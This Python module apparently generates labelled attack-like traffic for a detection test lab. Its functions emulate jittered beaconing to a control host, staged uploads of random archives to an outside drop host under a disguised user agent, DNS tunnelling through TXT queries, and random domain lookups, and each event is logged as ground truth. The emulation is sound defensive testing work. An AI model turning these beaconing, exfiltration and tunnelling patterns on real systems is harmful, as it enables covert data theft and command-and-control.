"""What a taken-over machine does: calling home, carrying data out, tunnelling through names, looking for its master by name."""

import base64

from activities.fetch import fetch
from truth import GRACE_US, now_us

CALLS_MAX, UPLOADS_MAX, TUNNEL_MAX, NAMES_MAX = 80, 12, 70, 70
UPLOAD_BYTES = (1_050_000, 1_700_000)
LETTERS = "abcdefghijklmnopqrstuvwxyz"


def beacon(lab, seconds):
    """A short request every few seconds, with a little jitter, to one host."""
    rng, site = lab.rng("beacon"), lab.site
    for _ in lab.until(seconds, CALLS_MAX):
        body = ["--data-binary", "x" * site.beacon_bytes] if site.beacon_bytes else []
        url = f"{site.beacon_scheme}://{site.control_host}/v1/tasks"
        fetch(lab, site.beacon_user, "beacon", [url], ["-4", *body], 10, "Microsoft-CryptoAPI/10.0")
        lab.sleep(site.beacon_s * rng.uniform(1 - site.beacon_jitter, 1 + site.beacon_jitter))


def theft(lab, seconds):
    """Archives of 1 to 1.7 MB, put on a file exchange outside."""
    rng, site = lab.rng("theft"), lab.site
    archive = lab.folder / "archive.zip"
    for number in lab.until(seconds, UPLOADS_MAX):
        archive.write_bytes(rng.randbytes(rng.randint(*UPLOAD_BYTES)))
        pace = ["--limit-rate", f"{rng.randint(200, 1500)}k"]
        how = rng.choice([["-T", archive], ["--data-binary", f"@{archive}"]])
        url = f"{site.theft_scheme}://{site.drop_host}/upload/{number}"
        fetch(lab, site.theft_user, "theft_upload", [url], ["-4", *how, *pace], 30, "rclone/v1.66")
        lab.sleep(seconds / UPLOADS_MAX * rng.uniform(0.2, 0.7))


def tunnel(lab, seconds):
    """Data in the labels of questions, data in the TXT records that answer them."""
    rng, site = lab.rng("tunnel"), lab.site
    user = lab.v4(site.dns_user)
    start_us = now_us()
    for _ in lab.until(seconds, TUNNEL_MAX):
        text = base64.b32encode(rng.randbytes(rng.randint(50, 100))).decode().lower().rstrip("=")
        labels = ".".join(text[at : at + 60] for at in range(0, len(text), 60))
        lab.run(site.dns_user, ["dig", "+tries=1", "+time=3", f"{labels}.{site.tunnel_domain}", "TXT"], 6)
        lab.sleep(rng.uniform(0.1, 1.0))
    for src, dst in ((user, lab.v4("dns")), (lab.v4("dns"), lab.v4("tunnel"))):
        lab.ledger.add("dns_tunnel", src, dst, "udp", 53, host="." + site.tunnel_domain, start_us=start_us, end_us=now_us() + GRACE_US)


def random_names(lab, seconds):
    """Names made by a rule, of which none exists."""
    rng, site = lab.rng("random_names"), lab.site
    user = lab.v4(site.dns_user)
    for _ in lab.until(seconds, NAMES_MAX):
        name = "".join(rng.choice(LETTERS) for _ in range(rng.randint(10, 18))) + rng.choice([".com", ".net", ".info", ".biz"])
        start_us = now_us()
        lab.run(site.dns_user, ["dig", "+tries=1", "+time=2", name, "A"], 6)
        for src, dst in ((user, lab.v4("dns")), (lab.v4("dns"), lab.v4("names"))):
            lab.ledger.add("random_names", src, dst, "udp", 53, host=name, start_us=start_us, end_us=now_us() + GRACE_US)
        lab.sleep(rng.uniform(0.02, 0.4))
